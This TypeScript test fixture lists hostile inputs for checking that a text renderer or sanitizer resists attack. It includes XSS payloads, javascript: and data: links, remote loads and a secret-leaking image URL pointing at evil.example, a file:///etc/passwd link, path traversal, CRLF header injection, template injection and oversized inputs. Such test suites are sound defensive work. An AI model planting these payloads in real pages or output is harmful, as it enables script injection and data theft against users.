const MEGABYTE = 1_000_000
const esc = '\u001b'

/** What attackers write into every field that a model, a tool or a user fills; each would show itself by `pwned`, a request or a broken page. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'script element': '<script>globalThis.pwned = 1</script>',
  'script in upper case': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'image with a handler': '<img src=x onerror="globalThis.pwned = 1">',
  'image of a stranger': '<img src="https://evil.example/p.png">',
  'image set': '<img srcset="https://evil.example/p.png 2x">',
  frame: '<iframe src="https://evil.example/"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  'SVG with a handler': '<svg onload="globalThis.pwned = 1"><circle r="1"/></svg>',
  'SVG with a script': '<svg><script>globalThis.pwned = 1</script></svg>',
  'SVG that animates an address':
    '<svg><a><animate attributeName="href" values="javascript:pwned=1"/>x</a></svg>',
  'SVG by reference': '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  MathML: '<math><maction actiontype="statusline" xlink:href="javascript:pwned=1">x</maction></math>',
  'style element': '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/p.png)">x</p>',
  'link element': '<link rel="stylesheet" href="https://evil.example/x.css">',
  base: '<base href="https://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  form: '<form action="https://evil.example/"><button autofocus>Sign in</button></form>',
  'focused input': '<input autofocus onfocus="globalThis.pwned = 1">',
  'opened details': '<details open ontoggle="globalThis.pwned = 1"><summary>x</summary></details>',
  'video with a handler': '<video src=x onerror="globalThis.pwned = 1"></video>',
  'comment that does not end': '<!-- <img src=x onerror="globalThis.pwned = 1">',
  'broken nesting': '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>">',
  'template of a browser': '<template><img src=x onerror="globalThis.pwned = 1"></template>',
  'script link': '[x](javascript:globalThis.pwned=1)',
  'script link in disguise': '[x](  java&#x09;script&colon;globalThis.pwned=1)',
  'data link': '[x](data:text/html,<script>parent.pwned=1</script>)',
  'VBScript link': '[x](vbscript:msgbox(1))',
  'blob link': '[x](blob:https://evil.example/1)',
  'file link': '[x](file:///etc/passwd)',
  'link without a scheme': '[x](//evil.example/x)',
  'image of Markdown': '![x](https://evil.example/p.png "title")',
  'image with a secret': '![x](https://evil.example/?q=secret)',
  'reference link': '[x][1]\n\n[1]: javascript:globalThis.pwned=1',
  'automatic link': '<javascript:globalThis.pwned=1> <https://user:password@evil.example/>',
  'link out of an attribute': '[x](https://a.example/"onmouseover="globalThis.pwned=1)',
  'table of Markdown': `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${'b|'.repeat(300)}`,
  'deep quotes': `${'> '.repeat(2_000)}x`,
  'deep lists': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'emphasis that does not end': '**_'.repeat(20_000),
  'brackets that do not end': '['.repeat(20_000),
  'code fence that does not end': `\`\`\`html" onclick="pwned=1\n<script>pwned=1</script>`,
  'line of a megabyte': 'x'.repeat(MEGABYTE),
  'word of a megabyte in Markdown': `# ${'y'.repeat(MEGABYTE)}`,
  'many lines': 'z\n'.repeat(50_000),
  'colors of a terminal': `${esc}[31mred${esc}[0m ${esc}]8;;https://evil.example/${esc}\\link${esc}]8;;${esc}\\`,
  'cleared terminal': `${esc}[2J${esc}[H${esc}c\u0007\u0008\u0000`,
  'right to left': '\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Fmark',
  'stacked accents': `e${'\u0301'.repeat(5_000)}`,
  'lone surrogate': `\uD800 and \uDFFF`,
  entities: '&lt;script&gt;pwned=1&lt;/script&gt; &#x3C;img src=x onerror=pwned=1&#x3E;',
  'name of a prototype': '__proto__',
  'name of a constructor': 'constructor',
  'expression of a template': '${globalThis.pwned=1} {{constructor.constructor("pwned=1")()}} #{1}',
  'path of a file': '../../../../etc/passwd\u0000.png',
  'header of a file': 'x.png"\r\nSet-Cookie: a=b\r\n\r\n<script>pwned=1</script>'
}

const GROUPS = 8

/** The texts with their titles, in groups that share a run. */
export const HOSTILE_GROUPS = Array.from({ length: GROUPS }, (_, group) =>
  Object.entries(HOSTILE).filter((_text, index) => index % GROUPS === group)
)
